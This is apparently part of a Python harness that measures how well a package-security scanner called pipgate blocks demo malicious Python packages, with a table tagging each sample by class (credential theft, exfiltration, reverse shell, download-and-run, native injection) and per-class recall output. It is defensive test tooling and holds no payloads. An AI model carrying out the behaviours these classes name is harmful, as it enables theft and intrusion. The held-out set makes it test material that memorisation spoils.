    "demo-cmd-poll": ["reverse-shell", "import-time"], "demo-b64-to-file": ["decode-run", "download-run"],
    "demo-dl-helper-run": ["download-run"], "demo-atomic-wallet": ["credential-theft", "exfiltration", "import-time"],
    "demo-keychain": ["credential-theft", "exfiltration"],
    "demo-pypirc": ["credential-theft", "exfiltration", "shady-links", "import-time"],
    "demo-raw-http": ["exfiltration", "beacon", "import-time"], "demo-tinyurl": ["shady-links", "download-run"],
    "demo-iwr-iex": ["download-run", "shady-links", "import-time"],
    "demo-joblib-dropper": ["non-source-payload", "download-run", "import-time"],
    "demo-npy-objects": ["non-source-payload", "import-time"],
    "demo-ckpt-zip": ["non-source-payload"],
    "demo-gadget-pickle": ["non-source-payload", "import-time"],
    "demo-legacy-pt": ["non-source-payload", "import-time"],
    "demo-smtp-ws": ["reverse-shell", "beacon", "exfiltration", "import-time"],
    "demo-semantic-keys": ["credential-theft", "exfiltration", "import-time"],
    "demo-src-exfil": ["exfiltration", "shady-links", "import-time"],
    "demo-cloud-time": ["credential-theft", "exfiltration", "import-time"],
    "demo-pyloose": ["native-injection", "decode-run", "import-time"],
    "demo-git-netrc": ["credential-theft", "exfiltration", "import-time"],
    "demo-pxa-tdata": ["credential-theft", "exfiltration", "import-time"],
    "demo-rundll32": ["native-injection", "download-run"],
    "demo-regsvr32": ["native-injection", "download-run", "import-time"],
    "demo-loadlib": ["native-injection", "non-source-payload", "import-time"],
    "demo-shellcode-helper": ["native-injection", "decode-run", "import-time"],
    "demo-dns-txt": ["exfiltration", "beacon"],
    "demo-helper-py-c": ["decode-run", "download-run", "import-time"],
    "demo-cli-creds": ["credential-theft", "exfiltration", "shady-links"],
    "demo-creal-ff": ["credential-theft", "exfiltration", "import-time"],
    "demo-drop-startfile": ["download-run", "import-time"],
    "demo-cdll-png": ["native-injection", "non-source-payload", "import-time"],
    "demo-wallet-keyfile": ["credential-theft", "exfiltration", "import-time"],
    "demo-ftp-exfil": ["exfiltration", "beacon", "import-time"],
    "demo-atexit-drop": ["download-run", "import-time"],
    "demo-pip-url": ["download-run", "shady-links", "import-time"],
    "demo-class-body": ["download-run", "import-time"],
    "demo-chr-shell": ["decode-run", "download-run", "import-time"],
    "demo-trippy": ["exfiltration", "beacon"], "demo-jajaje": ["exfiltration", "beacon"],
    "demo-all-plugins": ["credential-theft", "exfiltration", "import-time", "shady-links"],
    "demo-pipedream-probe": ["beacon", "exfiltration"],
    "demo-wagni": ["credential-theft", "exfiltration", "import-time"],
    "demo-whoami-curl": ["exfiltration", "beacon", "import-time"],
    "demo-home-listing": ["exfiltration", "import-time"],
    "demo-history-post": ["credential-theft", "exfiltration", "import-time"],
    "demo-smtp-env": ["exfiltration", "credential-theft", "import-time"],
    "demo-clip-post": ["screen-capture", "exfiltration", "import-time"],
}

BINARY_SUFFIXES = (".png", ".jpg", ".dll", ".pyc", ".exe", ".so", ".bin", ".pkl", ".pt", ".joblib", ".npy", ".ckpt", ".dat")


def to_bytes(path, content):
    """Text members as UTF-8; binary members (and strings with NULs) byte for byte."""
    if path.endswith(BINARY_SUFFIXES) or "\x00" in content or "\x7fELF" in content:
        return content.encode("latin-1")
    return content.encode()


def build(tmp, name, kind, files, author_email=None):
    module = name.replace("-", "_")
    email = author_email or "dev@example.org"
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nAuthor-email: {email}\n"
    if kind == "wheel":
        path = os.path.join(tmp, f"{module}-1.0-py3-none-any.whl")
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for p, c in files.items():
                z.writestr(p, to_bytes(p, c))
            z.writestr(f"{module}-1.0.dist-info/METADATA", meta)
            z.writestr(f"{module}-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
            z.writestr(f"{module}-1.0.dist-info/RECORD", "")
        return path
    path = os.path.join(tmp, f"{name}-1.0.tar.gz")
    with tarfile.open(path, "w:gz") as t:
        for p, c in list(files.items()) + [("PKG-INFO", meta)]:
            data = to_bytes(p, c)
            info = tarfile.TarInfo(f"{name}-1.0/{p}")
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return path


def samples(which):
    """(set, name, kind, files, pattern, source, classes) for the chosen set(s)."""
    out = []
    if which in ("tuning", "all"):
        out += [("tuning", n, k, f, p, s, CLASSES.get(n, [])) for n, k, f, p, s in SAMPLES]
    if which in ("heldout", "all"):
        sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
        import recall_heldout
        out += [("heldout", *row) for row in recall_heldout.SAMPLES]
    return out


def scan(tmp, policy, name, kind, files):
    email = "x1f9@guerrillamail.com" if name == "demo-disposable" else None
    path = build(tmp, name, kind, files, email)
    out = subprocess.run([PIPGATE, "scan", path, "--policy", policy, "--format", "json"], capture_output=True, text=True)
    report = json.loads(out.stdout) if out.stdout.strip() else {"findings": []}
    ids = sorted({f["detector"] for f in report["findings"] if f["severity"] not in ("info",)})
    if out.returncode == 1:
        return "BLOCKED", ids
    return ("flagged" if ids else "MISSED"), ids


def main():
    which = next((a.split("=", 1)[1] for a in sys.argv[1:] if a.startswith("--set=")), "all")
    if not os.path.exists(PIPGATE):
        sys.exit(f"build first: cargo build --release (looked for {PIPGATE}; set PIPGATE_BIN to override)")
    tmp = tempfile.mkdtemp(prefix="pipgate-recall")
    policy = os.environ.get("PIPGATE_POLICY") or os.path.join(ROOT, "policy.yaml")
    rows = [(st, name, pattern, source, classes, *scan(tmp, policy, name, kind, files))
            for st, name, kind, files, pattern, source, classes in samples(which)]
    hide = "--hide-heldout" in sys.argv[1:]
    for st, name, pattern, source, classes, status, ids in rows:
        if hide and st == "heldout":
            continue
        print(f"{st:7} {status:8} {name:22} {pattern} [{source}]\n{'':39}{', '.join(ids) or '-'}")
    print()
    sets = [s for s in ("tuning", "heldout") if any(r[0] == s for r in rows)]
    for st in sets:
        mine = [r for r in rows if r[0] == st]
        n = len(mine)
        caught = sum(r[5] == "BLOCKED" for r in mine)
        flagged = sum(r[5] == "flagged" for r in mine)
        print(f"{st:7}: {n} samples: {caught} blocked ({100 * caught / n:.0f}%), {flagged} flagged but served, "
              f"{n - caught - flagged} missed")
        if st == "heldout":
            import recall_heldout
            rounds = getattr(recall_heldout, "ROUNDS", {})
            for label in sorted(set(rounds.values())) + ["earlier rounds"]:
                part = [r for r in mine if rounds.get(r[1], "earlier rounds") == label]
                print(f"  {label}: {sum(r[5] == 'BLOCKED' for r in part)} / {len(part)} blocked")
    classes = sorted({c for r in rows for c in r[4]})
    print("\nper-class recall (blocked / samples)")
    print(f"{'class':20} " + " ".join(f"{s:>9}" for s in sets))
    for c in classes:
        cells = []
        for st in sets:
            mine = [r for r in rows if r[0] == st and c in r[4]]
            cells.append(f"{sum(r[5] == 'BLOCKED' for r in mine)}/{len(mine)}" if mine else "-")
        print(f"{c:20} " + " ".join(f"{x:>9}" for x in cells))


if __name__ == "__main__":
    main()
